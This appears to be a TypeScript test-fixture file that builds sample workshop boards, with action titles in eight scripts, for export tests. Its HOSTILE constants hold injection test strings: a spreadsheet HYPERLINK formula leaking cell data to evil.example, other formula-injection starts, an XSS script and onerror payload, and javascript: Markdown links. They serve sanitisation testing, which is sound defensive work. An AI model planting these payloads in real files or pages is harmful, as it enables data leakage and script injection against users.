/**
 * Boards for export tests: agreed actions written in every script delegates use, hostile text in
 * every field (formula starts, HTML, Markdown links, control characters), ideas and practices, and
 * cards outside the agreed lane. Built with the board schema's own writing helpers.
 */
import type * as Y from 'yjs';
import { addCard, createBoardDoc, readBoard, type BoardSnapshot, type CardInput } from '@plenary/shared/schema';
import type { ExportInput, ExportWorkshop } from '@plenary/shared/export';

export const TAKEN_AT = '2026-03-16T09:30:00.000Z';
/** How an English document shows `TAKEN_AT` when no time zone is asked for (Intl may put a narrow space before AM). */
export const TAKEN_AT_SHOWN = /Taken at Mar 16, 2026, 9:30\sAM \(UTC\)/;

export const WORKSHOP: ExportWorkshop = {
  id: 'ws1',
  title: 'Sister City Senior Officials Seminar',
  hostCity: { en: 'Bangkok', native: 'กรุงเทพมหานคร', country: 'Thailand', lang: 'th' },
  cities: [
    { en: 'Bangkok', native: 'กรุงเทพมหานคร', lang: 'th' },
    { en: 'Beijing', native: '北京', lang: 'zh' },
    { en: 'Fukuoka', native: '福岡', lang: 'ja' },
    { en: 'Seoul', native: '서울', lang: 'ko' },
    { en: 'Hanoi', native: 'Hà Nội', lang: 'vi' },
    { en: 'Phnom Penh', native: 'ភ្នំពេញ', lang: 'km' },
    { en: 'Ulaanbaatar', native: 'Улаанбаатар', lang: 'mn' },
    { en: 'Moscow', native: 'Москва', lang: 'ru' }
  ],
  startDate: '2026-03-12',
  endDate: '2026-03-16'
};

/** Titles of agreed actions in each script; every export must carry each exactly. */
export const SCRIPT_TITLES = {
  th: 'โครงการคัดแยกขยะชุมชนร่วมกัน',
  zh: '城市绿道共建计划',
  ja: '防災訓練の相互派遣',
  ko: '청년 교류 프로그램 확대',
  vi: 'Tăng cường hợp tác phát triển đô thị xanh',
  km: 'កម្មវិធីផ្លាស់ប្តូរបទពិសោធន៍',
  mn: 'Агаарын бохирдлыг бууруулах хамтын төсөл',
  ru: 'Обмен опытом по управлению отходами'
} as const;

/** Hostile text, as typed. */
export const HOSTILE = {
  formula: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  plusFormula: '+SUM(1,2)',
  minusFormula: '-2+3',
  atFormula: '@cmd',
  tabFormula: '\t=1+1',
  script: '<script>alert("x")</script><img src=x onerror=alert(1)>',
  mdLink: 'See [the report](javascript:alert(1)) and ![x](javascript:alert(2))',
  controls: 'Dr.\u0000 Somchai\u0007 Jaidee\u001b[31m\u007f\u0085',
  controlsCleaned: 'Dr. Somchai Jaidee[31m'
} as const;

export const HOSTILE_TITLE = HOSTILE.formula;

const base = { createdBy: 'Facilitator', createdAt: '2026-03-13T02:00:00.000Z' } as const;

const agreedAction = (lang: string, title: string, extra: Partial<Extract<CardInput, { kind: 'action' }>> = {}): CardInput => ({
  ...base,
  kind: 'action',
  lane: 'agreed',
  lang,
  authorCity: 'Bangkok',
  title,
  objective: `${title} — objective`,
  leadCity: 'Bangkok',
  partnerCities: ['Seoul', 'Hanoi'],
  startDate: '2026-04-01',
  endDate: '2026-12-31',
  milestones: [{ date: '2026-06-30', text: `${title} — first milestone` }],
  indicators: [{ indicator: 'Tonnes recycled', target: '500 t' }],
  resources: 'USD 20,000 from each city',
  responsibleOfficer: 'International affairs office',
  status: 'agreed',
  ...extra
});

/** The theme board with every script, hostile text and gaps. */
export const buildEnvironmentBoard = (boardId = 'board-env'): BoardSnapshot => {
  const doc = createBoardDoc({ workshopId: WORKSHOP.id, boardId, theme: 'environment', title: 'Environment and quality of life', createdAt: base.createdAt });
  for (const [lang, title] of Object.entries(SCRIPT_TITLES)) addCard(doc, agreedAction(lang, title));
  addCard(
    doc,
    agreedAction('en', HOSTILE.formula, {
      objective: HOSTILE.script,
      resources: HOSTILE.mdLink,
      responsibleOfficer: HOSTILE.controls,
      partnerCities: [HOSTILE.atFormula, 'Moscow'],
      milestones: [{ date: '2026-05-01', text: HOSTILE.plusFormula }],
      indicators: [{ indicator: HOSTILE.minusFormula, target: HOSTILE.tabFormula }]
    })
  );
  // An agreed action with nothing but a title: the warnings flag it.
  addCard(doc, { ...base, kind: 'action', lane: 'agreed', lang: 'en', title: 'Unfinished action', status: 'agreed' });
  addCard(doc, { ...base, kind: 'action', lane: 'proposed', lang: 'en', title: 'Only proposed, not agreed' });
  addCard(doc, { ...base, kind: 'idea', lang: 'th', authorCity: 'Bangkok', text: 'ตลาดน้ำสีเขียว\nบรรทัดที่สอง' });
  addCard(doc, { ...base, kind: 'practice', lang: 'ko', authorCity: 'Seoul', sourceCity: 'Seoul', text: '청계천 복원 사례' });
  addCard(doc, { ...base, kind: 'idea', lang: 'en', authorCity: 'Hanoi', text: HOSTILE.mdLink });
  return snapshotOf(doc);
};

/** A second theme board, small. */
export const buildCultureBoard = (boardId = 'board-culture'): BoardSnapshot => {
  const doc = createBoardDoc({ workshopId: WORKSHOP.id, boardId, theme: 'culture', title: 'Culture, recreation and tourism', createdAt: base.createdAt });
  addCard(doc, agreedAction('zh', '文化节互访', { leadCity: 'Beijing', milestones: [{ date: '2026-09-15', text: '首届文化节' }] }));
  return snapshotOf(doc);
};

/** A theme board with no card yet. */
export const buildEmptyBoard = (boardId: string, title: string): BoardSnapshot =>
  snapshotOf(createBoardDoc({ workshopId: WORKSHOP.id, boardId, theme: boardId, title, createdAt: base.createdAt }));

/** A board of `count` cards: a quarter agreed actions with full fields, the rest ideas and proposals. */
export const buildLargeBoard = (count: number, boardId = 'board-large'): BoardSnapshot => {
  const doc = createBoardDoc({ workshopId: WORKSHOP.id, boardId, theme: 'large', title: 'Large board', createdAt: base.createdAt });
  doc.transact(() => {
    for (let i = 0; i < count; i++) {
      const script = Object.values(SCRIPT_TITLES)[i % 8]!;
      if (i % 4 === 0) addCard(doc, agreedAction('en', `${script} #${i}`));
      else if (i % 4 === 1) addCard(doc, { ...base, kind: 'action', lang: 'en', title: `Proposal ${i}`, objective: script });
      else addCard(doc, { ...base, kind: 'idea', lang: 'en', authorCity: 'Hanoi', text: `${script} idea ${i}\n${HOSTILE.mdLink}` });
    }
  });
  return snapshotOf(doc);
};

const snapshotOf = (doc: Y.Doc): BoardSnapshot => {
  const snapshot = readBoard(doc);
  doc.destroy();
  return snapshot;
};

/** An export of the given boards, taken at `TAKEN_AT`. */
export const exportInput = (snapshots: BoardSnapshot[], versionLabel?: string): ExportInput => ({
  workshop: WORKSHOP,
  boards: snapshots.map((snapshot) => ({ theme: snapshot.board.title, snapshot })),
  takenAt: TAKEN_AT,
  ...(versionLabel ? { versionLabel } : {})
});
